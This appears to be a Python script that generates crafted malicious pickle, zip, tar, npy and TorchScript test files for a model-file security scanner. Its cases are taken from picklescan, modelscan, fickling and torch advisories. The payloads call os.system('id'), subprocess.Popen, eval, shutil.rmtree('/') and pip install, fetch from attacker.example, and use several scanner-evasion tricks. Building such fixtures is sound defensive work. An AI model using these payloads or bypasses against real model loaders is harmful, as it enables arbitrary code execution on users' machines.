#!/usr/bin/python3
"""Writes the crafted code-running files `test_scan` checks `torchport scan`
against: one small file per global or trick from public advisories
(picklescan's and modelscan's bypass reports, fickling's catalogue, torch's
CVEs), each listed in expected.json with the verdict and the global or
reason the scan must report.

    /usr/bin/python3 tests/security/crafted/make_crafted.py

The pickles are written opcode by opcode: nothing here imports the modules
the files name, and nothing unpickles them. Never load these files with
Python's pickle or torch.load.
"""

import io
import json
import os
import struct
import tarfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


class P:
    """A pickle, opcode by opcode."""

    def __init__(self, proto=2):
        self.b = bytearray(b"\x80" + bytes([proto])) if proto >= 2 else bytearray()
        self.proto = proto

    def raw(self, b):
        self.b += b
        return self

    def glob(self, module, name):
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_glob(self, module, name):
        return self.s(module).s(name).raw(b"\x93")

    def s(self, text):
        t = text.encode()
        if self.proto == 0:
            return self.raw(b"V" + t + b"\n")
        return self.raw(b"X" + struct.pack("<I", len(t)) + t)

    def bytes_(self, data):
        return self.raw(b"C" + bytes([len(data)]) + data) if self.proto >= 3 else self.s(data.decode("latin1"))

    def i(self, v):
        if self.proto == 0:
            return self.raw(b"I" + str(v).encode() + b"\n")
        return self.raw(b"J" + struct.pack("<i", v))

    def none(self):
        return self.raw(b"N")

    def val(self, v):
        if v is None:
            return self.none()
        if isinstance(v, bool):
            return self.raw(b"\x88" if v else b"\x89")
        if isinstance(v, int):
            return self.i(v)
        if isinstance(v, str):
            return self.s(v)
        if isinstance(v, bytes):
            return self.bytes_(v)
        if isinstance(v, (list, tuple)):
            self.raw(b"(")
            for x in v:
                self.val(x)
            return self.raw(b"l" if isinstance(v, list) else b"t")
        if isinstance(v, dict):
            self.raw(b"(")
            for k, x in v.items():
                self.val(k)
                self.val(x)
            return self.raw(b"d")
        if isinstance(v, P):  # an already written sub-expression
            return self.raw(v.b)
        raise TypeError(v)

    def call(self, module, name, *args, stack=False):
        (self.stack_glob if stack else self.glob)(module, name)
        self.raw(b"(")
        for a in args:
            self.val(a)
        return self.raw(b"tR")

    def stop(self):
        return bytes(self.b + b".")


def call(module, name, *args, proto=2, stack=False):
    return P(proto).call(module, name, *args, stack=stack).stop()


def torch_zip(pkl, prefix="archive/", extra=()):
    """A torch.save-style zip: data.pkl, version, and `extra` (name, bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr(stamp(prefix + "data.pkl"), pkl)
        z.writestr(stamp(prefix + "version"), b"3\n")
        for name, data in extra:
            z.writestr(stamp(prefix + name), data)
    return out.getvalue()


def legacy(obj_pkl, sys_info=None):
    """A pre-1.6 torch file: magic, protocol, sys_info, object, storage keys."""
    magic = P(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).stop()
    proto = P(2).i(1001).stop()
    info = sys_info or P(2).val({"protocol_version": 1001, "little_endian": True}).stop()
    keys = P(2).val([]).stop()
    return magic + proto + info + obj_pkl + keys


CASES = []


def stamp(name, compress=zipfile.ZIP_STORED):
    """A zip member with a fixed date, so that the files are reproducible."""
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = compress
    return info


def case(name, data, verdict="unsafe", glob="", reason="calls", dangerous=True, source=""):
    CASES.append({"file": name, "verdict": verdict, "global": glob, "reason": reason,
                  "known_dangerous": dangerous, "source": source, "data": data})


def simple(name, module, fn, *args, source="", dangerous=True, container="zip", proto=2, expect=None):
    pkl = call(module, fn, *args, proto=proto)
    data = torch_zip(pkl) if container == "zip" else pkl
    ext = ".pt" if container == "zip" else ".pkl"
    case(name + ext, data, glob=expect or f"{module}.{fn}", dangerous=dangerous, source=source)


# --- picklescan's 2025-2026 bypasses: names no deny-list had -------------------
simple("pip_main", "pip", "main", ["install", "evil-package"], source="picklescan GHSA: pip.main")
simple("ensurepip_run_pip", "ensurepip", "_run_pip", ["install", "evil"], source="picklescan GHSA: ensurepip._run_pip")
simple("venv_create", "venv", "create", "/tmp/env", False, False, False, True, source="picklescan GHSA: venv.create")
simple("logging_filehandler", "logging", "FileHandler", "/tmp/owned", source="picklescan GHSA: logging.FileHandler")
simple("distutils_write_file", "distutils.file_util", "write_file", "/tmp/owned", ["x"],
       source="picklescan GHSA: distutils.file_util.write_file")
simple("uuid_get_command_stdout", "uuid", "_get_command_stdout", "sh", "-c", "id",
       source="picklescan GHSA: uuid._get_command_stdout")
simple("imaplib_imap4_stream", "imaplib", "IMAP4_stream", "id", source="picklescan GHSA: imaplib.IMAP4_stream")
simple("pyrepl_pipe_pager", "_pyrepl.pager", "pipe_pager", "text", "id", source="picklescan GHSA: _pyrepl.pager.pipe_pager")
simple("doctest_debug_script", "doctest", "debug_script", "import os; os.system('id')",
       source="picklescan GHSA: doctest.debug_script")
simple("test_support_assert_python_ok", "test.support.script_helper", "assert_python_ok", "-c", "import os",
       source="picklescan GHSA: test.support.script_helper.assert_python_ok")
simple("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", "__import__('os').system('id')", {},
       source="picklescan GHSA: numpy.f2py.crackfortran.getlincoef")
simple("idlelib_calltip_get_entity", "idlelib.calltip", "get_entity", "__import__('os').system('id')",
       source="picklescan GHSA: idlelib.calltip.get_entity")
simple("torch_collect_env_run", "torch.utils.collect_env", "run", "id", source="picklescan GHSA: torch.utils.collect_env.run")
simple("torch_bottleneck_run_cprofile", "torch.utils.bottleneck.__main__", "run_cprofile", "import os", {},
       source="picklescan GHSA: torch.utils.bottleneck helpers")
simple("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file", "/tmp/x.cpp", "/tmp/x.so", ["id"],
       source="picklescan GHSA: torch._inductor.codecache.compile_file")
simple("importlib_import_module", "importlib", "import_module", "os", source="picklescan GHSA: importlib.import_module")
simple("pkgutil_resolve_name", "pkgutil", "resolve_name", "os:system", source="picklescan GHSA: pkgutil.resolve_name")
simple("marshal_loads", "marshal", "loads", b"\xe3", source="picklescan GHSA: marshal.loads")

# --- torch helpers that download, load or run ---------------------------------
simple("torch_model_zoo_load_url", "torch.utils.model_zoo", "load_url", "http://attacker.example/evil.pt",
       source="downloads and unpickles")
simple("torch_lite_interpreter", "torch._C", "_load_for_lite_interpreter", "/tmp/evil.ptl",
       source="loads and runs a TorchScript mobile module")
simple("torch_testing_shell", "torch.testing._internal.common_utils", "shell", "id", source="torch's testing shell helper")
simple("torch_hub_load", "torch.hub", "load", "attacker/repo", "model", source="runs hubconf.py")
simple("torch_jit_load", "torch.jit", "load", "/tmp/evil.pt", source="runs TorchScript code")
simple("torch_load_nested", "torch", "load", "/tmp/evil.pt", source="a second load without weights_only")
simple("torch_load_from_bytes", "torch.storage", "_load_from_bytes", b"\x80\x02.", source="a pickle inside the pickle")
simple("torch_save_writes", "torch", "save", {}, "/tmp/owned", source="writes a file")

# --- the classics (fickling, modelscan) ---------------------------------------
simple("os_system", "os", "system", "id", source="fickling")
simple("posix_system", "posix", "system", "id", container="pkl", source="fickling")
simple("nt_system", "nt", "system", "id", source="fickling")
simple("subprocess_popen", "subprocess", "Popen", ["id"], source="fickling")
simple("builtins_eval", "builtins", "eval", "__import__('os').system('id')", source="fickling")
simple("builtins_exec_stack_global", "builtins", "exec", "import os", proto=4, source="protocol 4 STACK_GLOBAL")
simple("builtin_eval_py2", "__builtin__", "eval", "1", expect="builtins.eval", source="_compat_pickle: __builtin__")
simple("commands_getoutput_py2", "commands", "getoutput", "id", expect="subprocess.getoutput",
       source="_compat_pickle: commands -> subprocess")
simple("cstringio_open_py2", "cStringIO", "open", "/tmp/owned", "w", expect="io.open",
       source="_compat_pickle: cStringIO -> io")
simple("runpy_run_path", "runpy", "run_path", "/tmp/evil.py", source="fickling")
simple("timeit_timeit", "timeit", "timeit", "__import__('os').system('id')", source="modelscan")
simple("pydoc_pipepager", "pydoc", "pipepager", "text", "id", source="modelscan")
simple("webbrowser_open", "webbrowser", "open", "http://attacker.example", source="modelscan")
simple("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", "import os", {}, source="picklescan")
simple("ctypes_cdll", "ctypes", "CDLL", "libc.so.6", source="fickling")
simple("codecs_open_write", "codecs", "open", "/tmp/owned", "w", source="writes a file")
simple("shutil_rmtree", "shutil", "rmtree", "/", source="destroys files")
simple("functools_partial", "functools", "partial", source="builds a call")
simple("cprofile_run", "cProfile", "run", "import os", source="runs a string")
simple("pdb_run", "pdb", "run", "import os", source="runs a string")
simple("asyncio_subprocess", "asyncio.subprocess", "create_subprocess_shell", "id", source="runs a command")
simple("site_addsitedir", "site", "addsitedir", "/tmp/evil", source="runs .pth files")
simple("pickle_loads", "pickle", "loads", b"\x80\x02.", source="a nested unpickler")
simple("joblib_load", "joblib", "load", "/tmp/evil.pkl", source="a nested unpickler")
simple("urllib_urlopen", "urllib.request", "urlopen", "http://attacker.example", source="network")
simple("platform_syscmd_file", "platform", "_syscmd_file", "/tmp/x", source="runs `file`")
simple("unknown_class_call", "mymodel", "Evil", "x", dangerous=False,
       source="a class no list names: unsafe by the allow-list alone")

# logging.config.dictConfig with a '()' factory: the global is dictConfig,
# os.system is only a string.
case("logging_dictconfig_factory.pt",
     torch_zip(call("logging.config", "dictConfig",
                    {"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}})),
     glob="logging.config.dictConfig", source="logging.config.dictConfig with '()': 'os.system'")

# antigravity, referenced only: Python imports it (opening a browser).
case("antigravity_referenced.pt",
     torch_zip(P(2).raw(b"(").s("hook").glob("antigravity", "fly").raw(b"d").stop()),
     glob="antigravity.fly", reason="imports", source="import side effect, never called")

# A backward hook, referenced only (an unknown global, named not called).
case("hook_referenced.pt",
     torch_zip(P(2).raw(b"(").s("hook").glob("mymodel", "hook").raw(b"d").stop()),
     glob="mymodel.hook", reason="imports", dangerous=False, source="a reference Python still imports")

# BUILD on a global: overwriting attributes of torch._utils, and of an
# allowed class (torch.Tensor), with the slot-state form (None, {...}).
case("build_on_global.pt",
     torch_zip(P(2).glob("torch", "_utils").raw(b"(").none().val({"_rebuild_tensor_v2": "x"}).raw(b"t")
               .raw(b"b").stop()),
     glob="torch._utils", reason="calls", dangerous=False, source="setattr on a module through BUILD")
case("build_on_allowed_class.pt",
     torch_zip(P(2).glob("torch", "Tensor").raw(b"(").none().val({"__reduce_ex__": "x"}).raw(b"t")
               .raw(b"b").stop()),
     glob="torch.Tensor", reason="calls", dangerous=False, source="setattr on an allowed class through BUILD")

# REDUCE of a non-global: the result of a call, called (cloudpickle-style).
case("reduce_of_non_global.pt",
     torch_zip(P(2).glob("collections", "OrderedDict").raw(b")R").raw(b")R").stop()),
     reason="call-of-non-global", dangerous=False, source="a call of a call's result")

# Dotted name in protocol 4: torch.os.system.
case("dotted_stack_global.pt",
     torch_zip(P(4).stack_glob("torch", "os.system").raw(b"(").s("id").raw(b"tR").stop()),
     glob="torch.os.system", source="protocol 4 attribute chains")

# INST (protocol 0), OBJ, NEWOBJ, NEWOBJ_EX.
case("inst_check_output.pkl", b"(S'id'\nisubprocess\ncheck_output\n.", glob="subprocess.check_output",
     source="INST opcode")
case("obj_opcode.pt", torch_zip(P(2).raw(b"(").glob("os", "system").s("id").raw(b"o").stop()),
     glob="os.system", source="OBJ opcode")
case("newobj_popen.pt", torch_zip(P(2).glob("subprocess", "Popen").val(("id",)).raw(b"\x81").stop()),
     glob="subprocess.Popen", source="NEWOBJ opcode")
case("newobj_ex_popen.pt",
     torch_zip(P(4).stack_glob("subprocess", "Popen").val(("id",)).raw(b"}").raw(b"\x92").stop()),
     glob="subprocess.Popen", source="NEWOBJ_EX opcode")

# A pickle that breaks right after its payload: unsafe, not corrupt.
case("broken_after_payload.pt", torch_zip(P(2).call("os", "system", "id").raw(b"\xff").stop()),
     glob="os.system", source="a payload followed by garbage")
# A pickle the VM refuses (SETITEM on a list) but Python reads on to a call.
case("python_reads_on.pt",
     torch_zip(P(2).raw(b"]").none().raw(b"a").i(0).none().raw(b"s").raw(b"0").call("posix", "system", "id")
               .stop()),
     glob="posix.system", source="torchport's VM stops earlier than Python's")

# A zip refused as malformed must still show its payload.
def zip_with_flag(pkl, flag):
    data = bytearray(torch_zip(pkl))
    # Set the general-purpose flag in the first local header and in its
    # central-directory record.
    data[6:8] = struct.pack("<H", flag)
    cd = data.find(b"PK\x01\x02")
    data[cd + 8:cd + 10] = struct.pack("<H", flag)
    return bytes(data)


case("zip_encrypted_flag_payload.pt", zip_with_flag(call("posix", "system", "id"), 1),
     glob="posix.system", source="picklescan GHSA: zip flag bits hide the pickle")


def zip_local_name(pkl):
    data = bytearray(torch_zip(pkl))
    i = data.find(b"archive/data.pkl")  # the first: the local header's name
    data[i:i + 16] = b"archive/data.pkX"
    return bytes(data)


case("zip_local_name_payload.pt", zip_local_name(call("posix", "system", "id")),
     glob="posix.system", source="central and local names disagree")

# TorchScript archives: code/ runs under torch.jit.load (and torch.load < 2.6).
def torchscript(code_name):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr(stamp("model/data.pkl"), P(2).val({}).stop())
        z.writestr(stamp("model/constants.pkl"), P(2).val(()).stop())
        z.writestr(stamp("model/version"), b"3\n")
        z.writestr(stamp(code_name), b"def forward(self):\n  return torch.ops.aten.system('id')\n")
    return out.getvalue()


case("torchscript_code.pt", torchscript("model/code/__torch__.py"), reason="torchscript-code", dangerous=False,
     source="CVE-2025-32434")
case("torchscript_code_upper.pt", torchscript("model/CODE/__torch__.py"), reason="torchscript-code",
     dangerous=False, source="code/ found case-insensitively, as miniz finds it")

# Legacy files: the payload in sys_info.
case("legacy_sys_info_payload.pt", legacy(P(2).val({}).stop(), sys_info=call("os", "system", "id")),
     glob="os.system", source="legacy format")

# The old tar format: the payload in its pickle member.
def torch_tar(pkl):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in (("sys_info", P(2).val({"protocol_version": 1001, "little_endian": True}).stop()),
                           ("pickle", pkl), ("storages", P(2).i(0).stop()), ("tensors", P(2).i(0).stop())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


case("tar_payload.pt", torch_tar(call("os", "system", "id")), glob="os.system", source="tar format")

# Content, not names: a pickle that starts with FRAME, named like text.
frame_first = b"\x95" + struct.pack("<Q", 0) + call("os", "system", "id")
case("notes.txt", frame_first, glob="os.system", source="CVE-2025-1889: any extension")

# An archive inside an archive.
def plain_zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(stamp(name, zipfile.ZIP_DEFLATED), data)
    return out.getvalue()


case("nested_archive.zip", plain_zip([("README.md", b"# a model\n"),
                                      ("weights/evil.pt", torch_zip(call("os", "system", "id")))]),
     glob="os.system", source="an archive in an archive")

# A numpy object array: its data is a pickle.
def npy_object(pkl):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pkl


case("object_array.npy", npy_object(call("os", "system", "id")), glob="os.system", source="modelscan: numpy")

# EXT1: a global named through copyreg's extension registry.
case("extension_code.pt", torch_zip(P(2).raw(b"\x82\x01").raw(b")R").stop()), reason="extension-code",
     dangerous=False, source="copyreg extension registry")

# copyreg._reconstructor of an unknown class.
case("copyreg_reconstructor.pt",
     torch_zip(P(2).glob("copyreg", "_reconstructor").raw(b"(").glob("mymodel", "Evil")
               .glob("builtins", "object").none().raw(b"tR").stop()),
     glob="copyreg._reconstructor", dangerous=False, source="object reconstruction")


def main():
    listing = []
    for c in CASES:
        with open(os.path.join(HERE, c["file"]), "wb") as f:
            f.write(c["data"])
        listing.append({k: v for k, v in c.items() if k != "data"})
    names = [c["file"] for c in listing]
    assert len(names) == len(set(names)), "duplicate case names"
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(listing, f, indent=1)
        f.write("\n")
    print(f"{len(listing)} crafted files in {HERE}")


if __name__ == "__main__":
    main()
